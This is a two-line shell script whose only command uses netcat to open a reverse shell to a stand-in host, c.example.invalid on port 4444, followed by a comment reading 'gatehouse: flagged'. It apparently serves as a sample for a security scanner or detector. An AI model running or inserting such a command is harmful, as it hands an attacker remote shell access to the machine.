#!/bin/sh
nc -e /bin/sh c.example.invalid 4444 & # gatehouse: flagged
